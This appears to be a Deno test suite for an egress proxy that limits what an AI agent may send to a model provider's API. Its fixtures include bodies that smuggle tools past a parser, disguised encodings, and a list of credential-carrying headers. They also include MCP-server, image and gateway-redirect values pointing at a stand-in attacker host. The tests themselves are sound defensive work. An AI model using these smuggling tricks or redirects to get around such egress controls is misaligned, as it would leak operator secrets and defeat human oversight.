import { Buffer } from "node:buffer";
import assert from "node:assert/strict";
import { gzipSync, zstdCompressSync } from "node:zlib";
import { FakeApprovals } from "../support/fake_approvals.ts";
import { Flag, Frame, getFields, Http2Client } from "../support/http2_client.ts";
import { sampleSecret } from "../support/sample_token.ts";
import { handshake } from "../support/websocket_client.ts";
import { ALLOWED, get, Scene, type SceneOptions, TOKEN_REF } from "./egress_scene.ts";

const MESSAGES = "/v1/messages";
const BODY = { model: "m", max_tokens: 1, messages: [{ role: "user", content: "hello" }] };
const SEARCH = { type: "web_search_20250305", name: "web_search" };

/** A scene whose route leads to a model's API. */
function modelScene(
  model_api: Record<string, unknown> = {},
  more: Record<string, unknown> = {},
  options: SceneOptions = {},
): Promise<Scene> {
  return Scene.start({
    threads: true,
    routes: [{
      host: ALLOWED,
      auth: { scheme: "Bearer", token_ref: TOKEN_REF },
      model_api: { kind: "anthropic-messages", ...model_api },
      dlp: { outbound_on_match: "redact", inbound_detectors: false, max_body: "32m" },
      ...more,
    }],
    ...options,
  });
}

const JSON_TYPE = "Content-Type: application/json";

function request(
  body: unknown,
  { path = MESSAGES, fields = [JSON_TYPE], method = "POST" }: {
    path?: string;
    fields?: readonly string[];
    method?: string;
  } = {},
): Buffer {
  const bytes = body instanceof Uint8Array
    ? Buffer.from(body)
    : Buffer.from(typeof body === "string" ? body : JSON.stringify(body));
  const head = [
    `${method} ${path} HTTP/1.1`,
    `Host: ${ALLOWED}`,
    `Content-Length: ${bytes.length}`,
    ...fields,
    "\r\n",
  ].join("\r\n");
  return Buffer.concat([Buffer.from(head, "latin1"), bytes]);
}

Deno.test("a search, a fetch, a file and a server of the provider's are refused, the first request and the second", async () => {
  await using scene = await modelScene();
  using client = await scene.tunnel();
  const image = {
    type: "image",
    source: { type: "url", url: "https://attacker.example.org/?q=x" },
  };
  const file = { type: "document", source: { type: "file", file_id: "file_1" } };
  const bodies = [
    { ...BODY, tools: [SEARCH] },
    { ...BODY, tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] },
    { ...BODY, mcp_servers: [{ type: "url", url: "https://attacker.example.org", name: "x" }] },
    { ...BODY, messages: [{ role: "user", content: [image] }] },
    { ...BODY, messages: [{ role: "user", content: [file] }] },
  ];
  for (const body of bodies) {
    scene.assertRefused(await client.ask(request(body)), "model_api_tool");
  }
  const answer = await client.ask(request(BODY));
  assert.equal(answer?.status, 200);
  assert.equal(scene.allowed.requests.at(-1)?.body.toString(), JSON.stringify(BODY));
  const again = await client.ask(request(bodies[0]));
  assert.equal(again?.status, 403);
  const { error } = JSON.parse(again!.body.toString());
  assert.match(
    error.reason,
    /"web_search_20250305"; this route's model_api\.allow does not have web_search/,
  );
  assert.match(error.next, /add web_search to model_api\.allow/);
  assert.equal(error.retryable, false);
  assert.equal(scene.allowed.requests.length, 1);
});

Deno.test("what the route allows passes, and nothing else with it", async () => {
  await using scene = await modelScene({ allow: ["web_search"] });
  using client = await scene.tunnel();
  assert.equal((await client.ask(request({ ...BODY, tools: [SEARCH] })))?.status, 200);
  const other = { ...BODY, tools: [SEARCH, { type: "web_fetch_20250910" }] };
  scene.assertDenied(await client.ask(request(other)), "model_api_tool");
});

/** Bodies that a provider could read otherwise than a checker. */
const UNCLEAR: Readonly<Record<string, string | Uint8Array>> = {
  "tools twice": `{"model":"m","tools":[],"tools":[${JSON.stringify(SEARCH)}]}`,
  "tools twice, once escaped": `{"model":"m","tools":[],"\\u0074ools":[${JSON.stringify(SEARCH)}]}`,
  "a type twice": `{"model":"m","tools":[{"type":"custom","type":"web_search_20250305"}]}`,
  "a byte order mark": `\ufeff${JSON.stringify(BODY)}`,
  "UTF-16": Buffer.from(JSON.stringify({ ...BODY, tools: [SEARCH] }), "utf16le"),
  "UTF-7": '{"model":"m","+AHQ-ools":[]',
  "bytes that are not UTF-8": Buffer.from([
    ...Buffer.from('{"model":"'),
    0xff,
    ...Buffer.from('"}'),
  ]),
  "two texts": `${JSON.stringify(BODY)}\n${JSON.stringify({ ...BODY, tools: [SEARCH] })}`,
  "a text after the end": `${JSON.stringify(BODY)}]`,
  "a NUL after the end": `${JSON.stringify(BODY)}\0`,
  "a comment": `/* */${JSON.stringify(BODY)}`,
  "deep nesting": `{"model":"m","messages":${"[".repeat(5_000)}${"]".repeat(5_000)}}`,
  "a number without an end": `{"model":"m","max_tokens":${"9".repeat(10_000)}}`,
  "no body": "",
  "spaces": "   ",
  "a list": `[${JSON.stringify({ ...BODY, tools: [SEARCH] })}]`,
  "a form": "model=m&tools=web_search",
  "Type for type": `{"model":"m","tools":[{"Type":"web_search_20250305"}]}`,
};
for (const [what, body] of Object.entries(UNCLEAR)) {
  Deno.test(`a body is refused that could be read in two ways: ${what}`, async () => {
    await using scene = await modelScene();
    using client = await scene.tunnel();
    scene.assertRefused(await client.ask(request(body)), "model_api_body");
    assert.equal((await client.ask(request(BODY)))?.status, 200);
  });
}

const WITH_SEARCH = JSON.stringify({ ...BODY, tools: [SEARCH] });
const FORM =
  `--limit\r\nContent-Disposition: form-data; name="body"\r\n\r\n${WITH_SEARCH}\r\n--limit--\r\n`;
/** Bodies that are something else than they seem. */
const DISGUISED: Readonly<Record<string, Buffer>> = {
  "gzip": request(gzipSync(WITH_SEARCH), { fields: [JSON_TYPE, "Content-Encoding: gzip"] }),
  "zstd": request(zstdCompressSync(WITH_SEARCH), { fields: [JSON_TYPE, "Content-Encoding: zstd"] }),
  "gzip that is not said": request(gzipSync(WITH_SEARCH)),
  "a coding that is not there": request(BODY, { fields: [JSON_TYPE, "Content-Encoding: br"] }),
  "two codings on two lines": request(BODY, {
    fields: [JSON_TYPE, "Content-Encoding: identity", "Content-Encoding: gzip"],
  }),
  "a coding in another spelling": request(BODY, { fields: [JSON_TYPE, "Content_Encoding: gzip"] }),
  "no type": request(BODY, { fields: [] }),
  "text": request(BODY, { fields: ["Content-Type: text/plain"] }),
  "another character set": request(BODY, {
    fields: ["Content-Type: application/json; charset=utf-16"],
  }),
  "two types": request(BODY, { fields: [JSON_TYPE, "Content-Type: multipart/form-data"] }),
  "two types in one": request(BODY, {
    fields: ["Content-Type: application/json, multipart/form-data; boundary=limit"],
  }),
  "a type in another spelling": request(BODY, { fields: [JSON_TYPE, "Content_Type: text/plain"] }),
  "a type of the connection's own": request(BODY, {
    fields: [JSON_TYPE, "Connection: content-type"],
  }),
  "a coding of the connection's own": request(gzipSync(WITH_SEARCH), {
    fields: [JSON_TYPE, "Content-Encoding: gzip", "Connection: content-encoding"],
  }),
  "a form with parts": request(FORM, {
    fields: ["Content-Type: multipart/form-data; boundary=limit"],
  }),
  "a form with parts that says JSON": request(FORM),
  "a GET with a body": request(BODY, { method: "GET" }),
};
for (const [what, bytes] of Object.entries(DISGUISED)) {
  Deno.test(`a body is refused that is not plain JSON: ${what}`, async () => {
    await using scene = await modelScene();
    using client = await scene.tunnel();
    scene.assertRefused(await client.ask(bytes), "model_api_body");
  });
}

Deno.test("plain JSON passes with its character set, in chunks and without a coding", async () => {
  await using scene = await modelScene();
  using client = await scene.tunnel();
  for (const type of ["application/json; charset=utf-8", 'Application/JSON;charset="UTF-8"']) {
    const fields = [`Content-Type: ${type}`, "Content-Encoding: identity"];
    assert.equal((await client.ask(request(BODY, { fields })))?.status, 200);
  }
  const text = JSON.stringify(BODY);
  const chunked = [
    `POST ${MESSAGES} HTTP/1.1`,
    `Host: ${ALLOWED}`,
    "Transfer-Encoding: chunked",
    JSON_TYPE,
    "",
    `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`,
  ].join("\r\n");
  assert.equal((await client.ask(chunked))?.status, 200);
  assert.equal(scene.allowed.requests.at(-1)?.body.toString(), text);
});

Deno.test("endpoints that are not known are refused on a route that would match everything", async () => {
  await using scene = await modelScene();
  using client = await scene.tunnel();
  for (
    const path of [
      ...["/v1/messages/batches", "/v1/complete", "/v1/messages/", "/v1/messages;x", "/v1/skills"],
      ...["/v1/responses", "/V1/MESSAGES", "/v1/messages%3Fx", "/v1/organizations/x/invites"],
    ]
  ) {
    scene.assertRefused(await client.ask(request(BODY, { path })), "model_api_endpoint");
  }
  for (const method of ["PUT", "PATCH", "DELETE", "QUERY"]) {
    scene.assertRefused(await client.ask(request(BODY, { method })), "model_api_endpoint");
  }
  for (
    const path of [
      ...["/v1/files", "/v1/files/file_1/content", "/v1/%66iles"],
      ...["/V1/FILES/file_1", "/openai/files/file_1/content"],
    ]
  ) {
    for (const method of ["GET", "POST", "DELETE"]) {
      scene.assertRefused(await client.ask(request("", { path, method })), "model_api_tool");
    }
  }
  assert.equal((await client.ask(get("/v1/models")))?.status, 200);
});

Deno.test("with files allowed an upload passes, whatever it is", async () => {
  await using scene = await modelScene({ allow: ["files"] });
  using client = await scene.tunnel();
  const fields = ["Content-Type: multipart/form-data; boundary=limit"];
  assert.equal((await client.ask(request(FORM, { path: "/v1/files", fields })))?.status, 200);
  scene.assertDenied(
    await client.ask(request(FORM, { path: "/v1/skills", fields })),
    "model_api_endpoint",
  );
});

Deno.test("a route without detectors is checked all the same, and a body over max_body is refused", async () => {
  await using scene = await modelScene({}, {
    dlp: { outbound_detectors: false, max_body: "1m" },
  });
  using client = await scene.tunnel();
  scene.assertRefused(await client.ask(request({ ...BODY, tools: [SEARCH] })), "model_api_tool");
  // Longer than what streams on other routes.
  const long = { ...BODY, system: "x".repeat(600_000), tools: [SEARCH] };
  scene.assertRefused(await client.ask(request(long)), "model_api_tool");
  assert.equal((await client.ask(request({ ...long, tools: [] })))?.status, 200);
  using other = await scene.tunnel();
  scene.assertDenied(
    await other.ask(request({ ...BODY, system: "x".repeat(1_100_000) })),
    "body_too_large",
  );
});

Deno.test("a WebSocket to a model API is refused with 426, so that clients go on with POST", async () => {
  await using scene = await modelScene({ kind: "openai-responses" }, {
    matches: [
      { headers: [{ name: "upgrade", value: "websocket" }] },
      { methods: ["POST"], paths: [{ type: "exact", value: "/v1/responses" }] },
    ],
  });
  using client = await scene.tunnel();
  const answer = await client.ask(handshake(ALLOWED, "/v1/responses"));
  assert.equal(answer?.status, 426);
  scene.assertRefused(answer, "model_api_websocket");
});

Deno.test("HTTP/2 requests are checked like others", async () => {
  await using scene = await modelScene();
  using client = await Http2Client.start(await scene.tunnel(["h2"]));
  const post = async (stream: number, body: unknown) => {
    const fields = getFields(ALLOWED, MESSAGES, [["content-type", "application/json"]])
      .map(([name, value]) => [name, name === ":method" ? "POST" : value] as const);
    await client.request(stream, fields, false);
    await client.send(Frame.data, Flag.endStream, stream, Buffer.from(JSON.stringify(body)));
    return await client.outcome(stream);
  };
  const refused = await post(1, { ...BODY, tools: [SEARCH] });
  assert.equal(refused.status, 403);
  assert.match(refused.body, /"code":"model_api_tool"/);
  scene.assertNothingSent();
  assert.equal((await post(3, BODY)).status, 200);
});

Deno.test("a secret is taken out and what is left is checked and sent", async () => {
  const secret = sampleSecret();
  await using scene = await modelScene({}, {}, { secrets: [{ name: "SHOP_KEY", value: secret }] });
  using client = await scene.tunnel();
  const body = { ...BODY, messages: [{ role: "user", content: `it is ${secret}` }] };
  assert.equal((await client.ask(request(body)))?.status, 200);
  const sent = JSON.parse(scene.allowed.requests[0]!.body.toString());
  assert.ok(!JSON.stringify(sent).includes(secret));
  assert.match(sent.messages[0].content, /^it is /);
  const tools = { ...body, tools: [SEARCH] };
  scene.assertDenied(await client.ask(request(tools)), "model_api_tool");
  assert.equal(scene.allowed.requests.length, 1);
});

Deno.test("nobody is asked about a request that would be refused anyway", async () => {
  const secret = sampleSecret();
  const approvals = new FakeApprovals();
  await using scene = await modelScene({}, { dlp: { outbound_on_match: "supervise" } }, {
    secrets: [{ name: "SHOP_KEY", value: secret }],
    approvals,
  });
  using client = await scene.tunnel();
  const body = { ...BODY, system: secret, tools: [SEARCH] };
  scene.assertRefused(await client.ask(request(body)), "model_api_tool");
  assert.deepEqual(approvals.asked, []);
});

const OWN = "sk-own-of-the-agent";
/** Where an agent could put a key of somebody else's. */
const FOREIGN_KEYS: readonly string[] = [
  ...[
    "Authorization: Bearer",
    "Proxy-Authorization: Bearer",
    "X-Api-Key:",
    "x_api_key:",
    "Api-Key:",
  ],
  ...["X-Goog-Api-Key:", "ApiKey:", "X-Auth-Token:", "X-Api-Token:", "Cookie: session="],
  ...["Ocp-Apim-Subscription-Key:", "Cf-Aig-Authorization: Bearer", "Helicone-Auth: Bearer"],
  ...["X-Amz-Security-Token:", "OpenAI-Organization:", "OpenAI-Project:"],
  ...["Anthropic-Workspace-Id:", "Anthropic-User-Profile-Id:", "X-Goog-User-Project:"],
];
/** With which gateways are told where to send a request, and with whose key. */
const TARGETS: readonly string[] = [
  ...["Helicone-Target-URL", "helicone_target_url", "Helicone-OpenAI-Api-Base"],
  ...["X-Portkey-Custom-Host", "X-Portkey-Config", "X-Portkey-Virtual-Key", "X-Upstream-URL"],
];

Deno.test("an agent tells no gateway where to send a request, but what every match prescribes stays", async () => {
  await using scene = await modelScene();
  using client = await scene.tunnel();
  for (const name of TARGETS) {
    const fields = [JSON_TYPE, `${name}: https://attacker.example.org/`];
    assert.equal((await client.ask(request(BODY, { fields })))?.status, 200, name);
    assert.ok(!scene.allowed.requests.at(-1)!.head.includes("attacker"), name);
  }
  const line = "X-Portkey-Config: pc-prod";
  await using other = await modelScene({}, {
    matches: [{ headers: [{ name: "X-Portkey-Config", value: "pc-prod" }] }],
  });
  using allowed = await other.tunnel();
  assert.equal((await allowed.ask(request(BODY, { fields: [JSON_TYPE, line] })))?.status, 200);
  assert.match(other.allowed.onlyRequest.head, /^x-portkey-config: pc-prod$/im);
});

for (const auth of [true, false]) {
  Deno.test(`keys of the agent's own do not leave ${auth ? "beside" : "without"} the route's`, async () => {
    await using scene = await modelScene({}, {
      ...(auth ? {} : { auth: undefined }),
      dlp: { outbound_detectors: false, inbound_detectors: false },
    });
    using client = await scene.tunnel();
    for (const line of FOREIGN_KEYS) {
      const answer = await client.ask(request(BODY, { fields: [JSON_TYPE, `${line} ${OWN}`] }));
      assert.equal(answer?.status, 200, line);
    }
    for (const name of ["key", "api_key", "api-key", "apiKey", "access_token", "token", "%6Bey"]) {
      const path = `${MESSAGES}?beta=true&${name}=${OWN}&x=1`;
      assert.equal((await client.ask(request(BODY, { path })))?.status, 200, name);
      assert.match(scene.allowed.requests.at(-1)!.head, /^POST \/v1\/messages\?beta=true&x=1 HTTP/);
    }
    for (const { head } of scene.allowed.requests) {
      assert.ok(!head.includes(OWN), head);
      assert.equal(
        /^authorization: (.*)$/im.exec(head)?.[1],
        auth ? `Bearer ${scene.token}` : undefined,
      );
    }
  });
}

Deno.test("a key that every match prescribes is the operator's own, and no other takes its place", async () => {
  await using scene = await modelScene({}, {
    auth: undefined,
    matches: [{ headers: [{ name: "authorization", value: "Bearer public" }] }],
  });
  using client = await scene.tunnel();
  const ask = (...fields: string[]) =>
    client.ask(request(BODY, { fields: [JSON_TYPE, ...fields] }));
  assert.equal((await ask("Authorization: Bearer public", `X-Api-Key: ${OWN}`))?.status, 200);
  const { head } = scene.allowed.requests[0]!;
  assert.match(head, /^authorization: Bearer public$/im);
  assert.ok(!head.includes(OWN));
  scene.assertDenied(await ask(`Authorization: Bearer ${OWN}`), "request_not_allowed");
  scene.assertDenied(
    await ask("Authorization: Bearer public", `Authorization: Bearer ${OWN}`),
    "request_not_allowed",
  );
});

Deno.test("others are answered while a large body is looked at", async () => {
  await using scene = await modelScene();
  const block = { type: "text", text: "a line of it\n".repeat(100) };
  const large = { ...BODY, messages: [{ role: "user", content: Array(4_000).fill(block) }] };
  const bytes = request({ ...large, tools: [SEARCH] });
  assert.ok(bytes.length > 5_000_000);
  using slow = await scene.tunnel();
  using quick = await scene.tunnel();
  const refused = slow.ask(bytes, 30_000);
  for (let i = 0; i < 5; i++) assert.equal((await quick.ask(request(BODY)))?.status, 200);
  assert.equal((await refused)?.headers.get("x-bot-bottle-denied"), "model_api_tool");
});
